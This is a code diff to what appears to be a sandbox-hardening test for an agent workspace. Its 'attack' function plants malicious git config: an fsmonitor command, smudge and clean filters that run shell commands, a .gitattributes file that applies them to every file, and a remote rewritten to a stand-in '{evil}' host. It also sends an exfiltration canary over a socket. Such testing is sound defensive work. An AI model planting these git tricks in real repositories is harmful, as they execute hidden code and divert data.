@@ -153,6 +153,11 @@ async def attack(config: dict[str, Any], env: dict[str, str]) -> dict[str, Any]:
             f"git config --file \"$d/config\" core.fsmonitor 'touch {outside}/fsmonitor-ran; false'"
             f' && git config --file "$d/config" remote.origin.url {evil}'
             f' && git config --file "$d/config" url.{evil}.insteadOf {origin}'
+            + "".join(
+                f' && git config --file "$d/config" filter.evil.{kind}'
+                f" 'touch {outside}/{kind}-ran; cat'"
+                for kind in ("smudge", "clean")
+            )
         )
         out: dict[str, str] = {}
         out["environ"] = await sh(
@@ -185,23 +190,39 @@ async def attack(config: dict[str, Any], env: dict[str, str]) -> dict[str, Any]:
             f"{listener.port}), timeout=5); s.sendall(b'exfil canary-net'); print('sent')\""
         )
         out["feature"] = await tool("write_file", path="feature.txt", content="the work\n")
+        out["attributes"] = await tool(
+            "write_file", path=".gitattributes", content="* filter=evil\n"
+        )
         report["out"] = out
         # The pre-hardening paths, once: the worker's own git / the engine's old git (the
         # process environment, the repository's config and hooks), and a plain write.
         plain_env = {**os.environ, "PATH": "/usr/bin:/bin"}
         slot = str(space.path)
-        report["plain_git"] = plain_git(
-            "-c", "safe.directory=*", "-C", slot, "status", env=plain_env
-        ) + plain_git(
-            "-c",
-            "safe.directory=*",
-            "-C",
-            slot,
-            "commit",
-            "--allow-empty",
-            "-qm",
-            "x",
-            env=plain_env,
+        report["plain_git"] = (
+            plain_git("-c", "safe.directory=*", "-C", slot, "status", env=plain_env)
+            + plain_git(
+                "-c",
+                "safe.directory=*",
+                "-C",
+                slot,
+                "checkout",
+                "-f",
+                "HEAD",
+                "--",
+                "README.md",
+                env=plain_env,
+            )
+            + plain_git(
+                "-c",
+                "safe.directory=*",
+                "-C",
+                slot,
+                "commit",
+                "--allow-empty",
+                "-qm",
+                "x",
+                env=plain_env,
+            )
         )
         linked = space.path / "linked.txt"
         if linked.exists() and not config["protect"]:
